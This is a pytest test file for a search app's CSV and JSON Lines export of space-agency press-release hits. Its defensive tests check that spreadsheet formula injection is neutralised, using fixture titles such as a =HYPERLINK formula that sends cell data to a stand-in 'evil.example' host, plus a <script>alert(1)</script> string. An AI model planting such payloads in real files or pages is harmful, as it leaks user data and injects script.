"""Taking a search away: /export.csv and /export.jsonl — the same hits as the page in the same
order, CSV a spreadsheet opens safely, JSON Lines for scripts, and the row cap said three ways."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from pathlib import Path

import pytest
from conftest import TAGS_TXT_ID, write_docs
from flask.testing import FlaskClient
from releases_corpus import BAIKONUR_2018_REPOST

from search.engine import MAX_EXPORT_ROWS, Engine, SearchRequest
from search.index import reindex
from web import create_app
from web.export import COLUMNS, TRUNCATED_ID, safe_cell

HOSTILE_TITLES = {
    "hostile/hyperlink.txt": '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")',
    "hostile/phone.txt": "+7 (727) 123-45-67: телефон пресс-службы",
    "hostile/minus.txt": "-2 градуса на космодроме",
    "hostile/at.txt": "@SUM(A1) отчёт о пуске",
    "hostile/plain.txt": "Обычный отчёт о пуске",
}


def rows_of(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline="")))


def api_ids(client: FlaskClient, params: dict[str, str]) -> list[str]:
    """Every hit of a search through the API, page by page."""
    ids, page = [], 1
    while True:
        data = client.get("/api/search", query_string={**params, "page": page,
                                                        "per_page": 100}).get_json()
        ids += [h["id"] for h in data["hits"]]
        if page * 100 >= data["total"]:
            return ids
        page += 1


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    docs = {path: f"---\ndate: 2020-0{i + 1}-01\nsource: roscosmos\n---\n{title}\n\n"
            f"Отчёт о пуске номер {i}: всё прошло штатно.\n"
            for i, (path, title) in enumerate(HOSTILE_TITLES.items())}
    write_docs(root / "corpus", docs)
    meta = {"url": "https://www.roscosmos.ru/24001/", "item_url": None, "feed_url": None,
            "title": None, "date": None, "author": None, "fetched_at": "2024-05-01T00:00:00Z",
            "content_type": "text/plain", "sha256": "0" * 64, "source": "roscosmos",
            "source_name": "Роскосмос", "lang": None}
    (root / "corpus" / "hostile" / "plain.txt.meta.json").write_text(json.dumps(meta),
                                                                      encoding="utf-8")
    reindex(root / "corpus", root / "index", full=True)
    return create_app({"TESTING": True, "INDEX_DIR": root / "index"})


# --- CSV -------------------------------------------------------------------------------------


def test_csv_is_utf8_with_bom_quoted_everywhere_with_a_header(rclient) -> None:
    r = rclient.get("/export.csv", query_string={"q": "Байконур"})
    assert r.status_code == 200 and r.is_streamed
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert r.headers["Content-Disposition"] == 'attachment; filename="orbita-search.csv"'
    raw = r.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    body = raw.decode("utf-8")
    lines = body.removeprefix("\ufeff").split("\r\n")
    assert lines[-1] == ""  # every record ends with CRLF
    field = r'"(?:[^"]|"")*"'
    for line in lines[:-1]:
        assert re.fullmatch(rf"{field}(,{field})*", line), line
    rows = rows_of(body)
    assert rows[0] == list(COLUMNS)
    assert all(len(row) == len(COLUMNS) for row in rows)


def test_csv_holds_the_pages_hits_in_the_same_order(rclient) -> None:
    params = {"q": "Байконур", "sort": "date", "lang": "ru"}
    rows = rows_of(rclient.get("/export.csv", query_string=params).get_data(as_text=True))
    records = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
    assert [r["id"] for r in records] == api_ids(rclient, params)
    first = records[0]
    assert first["url"] == "http://localhost/doc/" + first["id"]
    assert {r["language"] for r in records} == {"ru"}
    dates = [r["date"] for r in records if r["date"]]
    assert dates == sorted(dates, reverse=True) and records[-1]["date"] == ""  # undated last
    repost = next(r for r in records if r["id"] == BAIKONUR_2018_REPOST)
    assert repost["agency"] == "МЦРИАП РК" and repost["agency_key"] == "mdai-kz"
    assert repost["copies"] == ("roscosmos/2018-05-14-soyuz.html | "
                                "roscosmos/2018-05-14-soyuz.txt")
    assert float(repost["score"]) >= 0


@pytest.mark.parametrize(("path", "cell"), [
    ("hostile/hyperlink.txt", "'" + HOSTILE_TITLES["hostile/hyperlink.txt"]),
    ("hostile/phone.txt", "'+7 (727) 123-45-67: телефон пресс-службы"),
    ("hostile/minus.txt", "'-2 градуса на космодроме"),
    ("hostile/at.txt", "'@SUM(A1) отчёт о пуске"),
    ("hostile/plain.txt", "Обычный отчёт о пуске"),
])
def test_no_csv_cell_is_a_formula(hostile_app, path, cell) -> None:
    client = hostile_app.test_client()
    rows = rows_of(client.get("/export.csv?q=отчёт").get_data(as_text=True))
    by_id = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]}
    assert by_id[path]["title"] == cell
    for row in rows:
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row), row
    # scripts get the text as it is
    lines = client.get("/export.jsonl?q=отчёт").get_data(as_text=True).splitlines()
    records = {r["id"]: r for r in map(json.loads, lines)}
    assert records[path]["title"] == HOSTILE_TITLES[path]


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+7 (727)", "'+7 (727)"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("1-2", "1-2"), ("a=b", "a=b"), ("", ""),
    (None, ""), (3.25, "3.25"), ("x\x00y\x1b", "xy"), ("'quoted", "'quoted"),
])
def test_safe_cell_neutralises_formula_starts(value, cell) -> None:
    assert safe_cell(value) == cell


def test_source_url_is_given_when_known(hostile_app) -> None:
    client = hostile_app.test_client()
    rows = rows_of(client.get("/export.csv?q=отчёт").get_data(as_text=True))
    by_id = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]}
    assert by_id["hostile/plain.txt"]["source_url"] == "https://www.roscosmos.ru/24001/"
    assert by_id["hostile/minus.txt"]["source_url"] == ""


def test_the_snippet_is_the_pages_snippet_as_plain_text(client) -> None:
    q = {"q": "записали журнал"}
    lines = client.get("/export.jsonl", query_string=q).get_data(as_text=True)
    record = next(r for r in map(json.loads, lines.splitlines()) if r["id"] == TAGS_TXT_ID)
    assert "<mark>" not in record["snippet"] and "&lt;" not in record["snippet"]
    assert "<script>alert(1)</script>" in record["snippet"]  # the release's own text, as text
    assert "\n" not in record["snippet"]
    assert record["title"] == "Обсерватория & <b>метеоры</b>: отчёт о наблюдениях"
    hit = next(h for h in client.get("/api/search", query_string=q).get_json()["hits"]
               if h["id"] == TAGS_TXT_ID)
    page_text = html.unescape(re.sub(r"</?mark>", "", hit["snippet_html"]))
    assert record["snippet"] == " ".join(page_text.split())


# --- JSON Lines ------------------------------------------------------------------------------


def test_jsonl_is_one_object_a_line_with_the_csv_columns(rclient) -> None:
    r = rclient.get("/export.jsonl", query_string={"q": "Байконур", "ui": "en"})
    assert r.headers["Content-Type"] == "application/jsonl; charset=utf-8"
    assert r.headers["X-Orbita-Truncated"] == "false"
    lines = r.get_data(as_text=True).split("\n")
    assert lines[-1] == ""
    records = [json.loads(line) for line in lines[:-1]]
    assert all(list(rec) == list(COLUMNS) for rec in records)
    assert [rec["id"] for rec in records] == api_ids(rclient, {"q": "Байконур"})
    assert int(r.headers["X-Orbita-Rows"]) == len(records)
    assert int(r.headers["X-Orbita-Total"]) == rclient.get(
        "/api/search?q=Байконур").get_json()["total"]
    repost = next(rec for rec in records if rec["id"] == BAIKONUR_2018_REPOST)
    assert repost["copies"] == ["roscosmos/2018-05-14-soyuz.html",
                                "roscosmos/2018-05-14-soyuz.txt"]
    assert all("ui=" not in rec["url"] for rec in records)  # stable addresses


# --- the cap -----------------------------------------------------------------------------------


@pytest.fixture
def capped(releases_app, tmp_path: Path) -> FlaskClient:
    app = create_app({"TESTING": True, "INDEX_DIR": releases_app.config["INDEX_DIR"],
                      "EXPORT_MAX_ROWS": 3})
    return app.test_client()


def test_a_capped_csv_says_it_was_cut(capped) -> None:
    r = capped.get("/export.csv", query_string={"q": "Байконур", "ui": "kk"})
    assert r.headers["X-Orbita-Truncated"] == "true"
    assert r.headers["X-Orbita-Rows"] == "3" and r.headers["X-Orbita-Total"] == "11"
    rows = rows_of(r.get_data(as_text=True))
    assert len(rows) == 1 + 3 + 1
    last = rows[-1]
    assert last[0] == TRUNCATED_ID and all(c == "" for c in last[2:])
    assert last[1] == ("Жүктелген жол саны: 3, табылған құжат саны: 11. "
                       "Қалғанын алу үшін сұранысты нақтылаңыз.")
    assert [row[0] for row in rows[1:4]] == api_ids(capped, {"q": "Байконур"})[:3]


def test_a_capped_jsonl_ends_with_a_truncated_line(capped) -> None:
    r = capped.get("/export.jsonl", query_string={"q": "Байконур", "ui": "en"})
    lines = [json.loads(line) for line in r.get_data(as_text=True).splitlines()]
    assert len(lines) == 4 and all("id" in rec for rec in lines[:3])
    message = "Rows exported: 3; documents found: 11. Refine the search to get the rest."
    assert lines[-1] == {"truncated": True, "rows": 3, "total": 11, "message": message}


def test_a_search_within_the_cap_is_not_cut(capped) -> None:
    r = capped.get("/export.csv", query_string={"q": "Байтерек"})
    rows = rows_of(r.get_data(as_text=True))
    assert r.headers["X-Orbita-Truncated"] == "false"
    assert len(rows) - 1 == int(r.headers["X-Orbita-Rows"]) <= 3
    assert all(row[0] != TRUNCATED_ID for row in rows)


def test_the_cap_is_never_above_ten_thousand(releases_app) -> None:
    app = create_app({"TESTING": True, "INDEX_DIR": releases_app.config["INDEX_DIR"],
                      "EXPORT_MAX_ROWS": 10**9})
    with app.test_request_context("/"):
        from web.export import export_limit

        assert export_limit() == MAX_EXPORT_ROWS == 10_000


def test_the_engine_refuses_a_limit_beyond_its_own(releases_app) -> None:
    engine = Engine(releases_app.config["INDEX_DIR"])
    with pytest.raises(ValueError):
        engine.export(SearchRequest(q="Байконур"), MAX_EXPORT_ROWS + 1)
    export = engine.export(SearchRequest(q="Байконур", page=50, per_page=100), 2)
    assert export.rows == 2 and export.truncated  # page and page size do not apply
    export.close()
    export.close()  # closing twice is harmless
    engine.close()


# --- errors and links ------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/export.csv", "/export.jsonl"])
@pytest.mark.parametrize(("params", "code"), [
    ({"q": ""}, "empty_query"), ({"q": "Байконур", "from": "2018-13"}, "bad_date"),
    ({"q": "Байконур", "sort": "x"}, "bad_sort"),
])
def test_a_bad_export_is_a_json_error_before_any_row(rclient, path, params, code) -> None:
    r = rclient.get(path, query_string={**params, "ui": "en"})
    assert r.status_code == 400 and r.mimetype == "application/json"
    error = r.get_json()["error"]
    assert error["code"] == code and not re.search("[а-яё]", error["message"].replace(
        "2018-13", ""))


def test_the_results_page_links_both_exports_with_its_search(rclient) -> None:
    from bs4 import BeautifulSoup

    page = rclient.get("/?q=Байконур&sort=date&lang=ru&page=2&ui=kk").get_data(as_text=True)
    links = BeautifulSoup(page, "html.parser").select("p.export a")
    assert [a["href"].split("?")[0] for a in links] == ["/export.csv", "/export.jsonl"]
    for a in links:
        query = a["href"].split("?")[1]
        assert "sort=date" in query and "lang=ru" in query and "page=" not in query
        assert rclient.get(a["href"]).status_code == 200
    assert "ең көбі 10\u202f000 жол" in page
